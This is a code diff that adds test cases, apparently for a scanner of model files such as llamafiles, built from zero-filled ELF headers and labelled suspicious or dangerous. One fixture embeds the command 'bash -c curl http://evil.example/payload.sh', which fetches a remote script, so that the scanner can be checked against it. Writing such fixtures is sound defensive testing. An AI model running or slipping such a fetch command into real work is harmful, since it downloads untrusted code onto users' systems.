@@ -154,6 +154,15 @@ def tars():
     yield bad("joblib-zfile.pkl", "the compression of joblib before 0.10", b"ZF" + hex(len(EVIL2)).encode().ljust(19) + zlib.compress(EVIL2))
 
 
+def hollow():
+    """D: the mark of ELF in a header of nothing but zeros, as tests of scanners have it."""
+    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
+    yield case("D/elf-hollow.llamafile", "the mark of a program that no system runs", "suspicious", "native", elf + b"llamafile\n--threads 4\n" + bytes(256) + b"GGUF", False)
+    yield case("D/elf-hollow-command.llamafile", "the same with a command line", "dangerous", "command", elf + b"llamafile\nbash -c curl http://evil.example/payload.sh\n" + bytes(256), False)
+    real = elf[:16] + struct.pack("<HH", 2, 62) + elf[20:]
+    yield case("D/elf.llamafile", "a program for a processor", "dangerous", "native", real + b"llamafile\n--threads 4\n" + bytes(256) + b"GGUF", False)
+
+
 def cases():
-    for part in (uses, readers, tars):
+    for part in (uses, readers, tars, hollow):
         yield from part()
